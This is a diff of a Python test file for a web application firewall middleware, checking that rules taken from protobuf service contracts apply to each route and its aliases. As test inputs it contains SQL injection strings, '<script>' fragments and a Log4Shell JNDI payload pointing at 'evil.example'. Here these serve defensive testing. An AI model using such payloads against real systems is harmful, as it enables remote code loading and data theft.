@@ -10,10 +10,21 @@ from typing import Any
 import httpx
 import orjson
 import pytest
+from google.api import annotations_pb2, http_pb2
+from google.protobuf import descriptor_pb2, descriptor_pool
 from prometheus_client import REGISTRY
 
-from edge.waf import DEFAULT_RULES, Matcher, WafMiddleware
+from edge.middleware.waf import DEFAULT_RULES, Matcher, WafMiddleware
+from edge.objects import object_routes
+from edge.transcoding.discovery import contract_services
+from edge.transcoding.endpoint import rpc_routes
+from edge.transcoding.rules import NO_RULE, RouteRule, WafField
+from edge.transcoding.specs import RouteSpec, build_specs, byte_stream_specs
+from edge.transcoding.table import FindRoute, RouteTable
+from launchpad.api.v1 import options_pb2
 from services.core.audit import AuditLog, verify_chain
+
+FieldProto = descriptor_pb2.FieldDescriptorProto
 
 
 class Echo:
@@ -52,7 +63,8 @@ def audit() -> ListAudit:
 
 @pytest.fixture
 async def waf(audit: ListAudit) -> AsyncIterator[httpx.AsyncClient]:
-    transport = httpx.ASGITransport(WafMiddleware(Echo(), audit), client=("203.0.113.7", 4000))
+    app = routed(WafMiddleware(Echo(), audit), contract_services())
+    transport = httpx.ASGITransport(app, client=("203.0.113.7", 4000))
     async with httpx.AsyncClient(transport=transport, base_url="http://edge") as client:
         yield client
 
@@ -203,7 +215,9 @@ async def test_exempt_sql_field_still_checked_in_the_query_string_of_other_route
     waf: httpx.AsyncClient,
 ) -> None:
     assert (await waf.get("/api/data/tables?sql=1%20UNION%20SELECT%202")).status_code == 403
-    assert (await waf.get("/api/data/query?sql=1%20UNION%20SELECT%202")).status_code == 200
+    assert (await waf.post("/api/data/query?sql=1%20UNION%20SELECT%202")).status_code == 200
+    # Rules are per route (verb and path): a GET is not the Query route, so nothing is exempt there.
+    assert (await waf.get("/api/data/query?sql=1%20UNION%20SELECT%202")).status_code == 403
 
 
 async def test_chunked_body_is_replayed_as_it_came() -> None:
@@ -340,3 +354,103 @@ async def test_large_bodies_are_scanned_off_the_loop_and_still_blocked(waf: http
     clean = await waf.post("/api/storage/buckets", json={"name": padding})
     assert clean.status_code == 200
     assert clean.json()["size"] > 64 * 1024
+
+
+# --- rules come from the contracts, and every binding of a method gets its method's rule -----------------
+
+
+def _waf_contract() -> Any:
+    """A method with an alias binding and a field rule for `sql`: neither binding is listed anywhere else."""
+    package = "launchpad.waftest.v1"
+    file = descriptor_pb2.FileDescriptorProto(
+        name="launchpad/waftest/v1/waftest.proto",
+        package=package,
+        syntax="proto3",
+        dependency=["google/api/annotations.proto", "launchpad/api/v1/options.proto"],
+    )
+    request = file.message_type.add(name="RunRequest")
+    for number, name in enumerate(("sql", "note"), start=1):
+        request.field.add(
+            name=name, number=number, type=FieldProto.TYPE_STRING, label=FieldProto.LABEL_OPTIONAL
+        )
+    method = file.service.add(name="WafTestService").method.add(
+        name="Run", input_type=f".{package}.RunRequest", output_type=f".{package}.RunRequest"
+    )
+    rule = http_pb2.HttpRule(post="/api/waftest/run", body="*")
+    rule.additional_bindings.add(post="/run-alias", body="*")  # the binding a hand-kept list would miss
+    method.options.Extensions[annotations_pb2.http].CopyFrom(rule)
+    method.options.Extensions[options_pb2.edge].waf_fields.add(field="sql", only=["log4shell"])
+    pool = descriptor_pool.Default()
+    try:
+        return pool.FindServiceByName(f"{package}.WafTestService")
+    except KeyError:
+        pool.Add(file)
+        return pool.FindServiceByName(f"{package}.WafTestService")
+
+
+def routed(app: Any, services: list[Any]) -> FindRoute:
+    """`app` behind FindRoute over the routes of `services` (the endpoints are never called)."""
+    return FindRoute(app, contract_table(services))
+
+
+def contract_table(services: list[Any]) -> RouteTable:
+    specs, _ = build_specs(services)
+    ctx: Any = None  # endpoints only reached through the table's matching here
+    return RouteTable([*object_routes(ctx, byte_stream_specs(services)), *rpc_routes(specs, ctx)])
+
+
+async def test_a_new_binding_inherits_its_methods_waf_rule(audit: ListAudit) -> None:
+    app = routed(WafMiddleware(Echo(), audit), [_waf_contract()])
+    union = orjson.dumps({"sql": "SELECT a FROM t UNION SELECT b FROM u"})
+    jndi = orjson.dumps({"sql": "SELECT '${jndi:ldap://evil.example/a}'"})
+    headers = {"content-type": "application/json"}
+    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://edge") as client:
+        for path in ("/api/waftest/run", "/run-alias"):
+            assert (await client.post(path, content=union, headers=headers)).status_code == 200, path
+            assert (await client.post(path, content=jndi, headers=headers)).status_code == 403, path
+        assert (await client.post("/elsewhere", content=union, headers=headers)).status_code == 403
+        note = orjson.dumps({"note": "x UNION SELECT password FROM users"})  # only `sql` has the rule
+        assert (await client.post("/run-alias", content=note, headers=headers)).status_code == 403
+
+
+def _rule(table: RouteTable, method: str, path: str) -> RouteRule:
+    return table.find({"type": "http", "method": method, "path": path, "root_path": ""})[2]
+
+
+def test_contract_aliases_share_their_methods_rule() -> None:
+    table = contract_table(contract_services())
+    for main, alias in [
+        ("/api/data/query", "/query"),
+        ("/api/ai/query", "/api/ai/query-ai"),
+        ("/api/ai/query", "/query-ai"),
+        ("/api/ai/sql/suggest", "/sql/suggest"),
+        ("/api/wpk/pack", "/wpk/pack"),
+    ]:
+        rule = _rule(table, "POST", main)
+        assert rule != NO_RULE and rule == _rule(table, "POST", alias), alias
+    specs, _ = build_specs(contract_services())
+    for spec in specs:
+        _, child, rule = table.find(
+            {"type": "http", "method": spec.http_method, "path": spec.path, "root_path": ""}
+        )
+        assert isinstance(child["endpoint"].spec, RouteSpec), spec.template
+        assert child["endpoint"].spec.method is spec.method, spec.template
+        assert rule == spec.rule, spec.template
+
+
+def test_unknown_rule_ids_in_a_contract_fail_at_start_up() -> None:
+    bad = RouteRule(waf_fields=(("sql", WafField(only=frozenset({"log4shel"}))),))
+    with pytest.raises(ValueError, match="log4shel"):
+        WafMiddleware(Echo(), ListAudit(), route_rules=[bad])
+
+
+async def test_signed_object_routes_are_not_inspected(audit: ListAudit) -> None:
+    """ReadObject/WriteObject carry waf_skip: their path, query and bytes are opaque data."""
+    app = routed(WafMiddleware(Echo(), audit), contract_services())
+    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://edge") as client:
+        url = "/storage/v1/object/b/notes/union select.txt?sig=abc&ct=text/plain"
+        response = await client.put(url, content=b"<script>", headers={"content-type": "application/json"})
+        read = await client.get("/storage/v1/object/b/<script>.txt?sig=abc")
+    assert response.status_code == 200
+    assert read.status_code == 200
+    assert audit.events == []
